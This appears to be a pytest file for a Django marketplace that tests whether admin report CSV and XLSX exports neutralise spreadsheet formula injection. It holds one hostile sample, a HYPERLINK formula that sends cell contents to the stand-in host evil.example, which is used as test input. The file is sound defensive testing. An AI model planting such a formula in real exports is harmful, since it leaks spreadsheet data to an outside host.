"""What every admin report's export shares: text typed by visitors and producers is
never run as a formula when the office opens a CSV export in a spreadsheet."""

import csv
import io

import pytest
from openpyxl import load_workbook

from marketplace.reports.mixins import neutralise_formula
from search.models import SearchQueryLog

pytest_plugins = ["tests.producer_accounts_fixtures"]

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (ATTACK, "'" + ATTACK),
        ("+84905123456 gọi", "'+84905123456 gọi"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("-5", "-5"),  # a number written as text
        ("-2.5", "-2.5"),
        ("nước mắm", "nước mắm"),
        ("", ""),
        (42, 42),
        (None, None),
    ],
)
def test_formula_like_text_is_made_plain_text(value, expected):
    assert neutralise_formula(value) == expected


@pytest.mark.django_db
def test_a_visitors_search_cannot_plant_a_formula_in_the_office_csv(site, office_client):
    SearchQueryLog.objects.create(
        query=ATTACK, language="vi", result_count=0, duration_ms=3, backend="database"
    )

    response = office_client.get("/admin/reports/search/zero-results/", {"export": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert ["'" + ATTACK] == [row[0] for row in rows[1:]]

    # Wagtail's XLSX export keeps it as text (not a formula) by itself.
    response = office_client.get("/admin/reports/search/zero-results/", {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cell = sheet.cell(row=2, column=1)
    assert (cell.value, cell.data_type) == (ATTACK, "s")
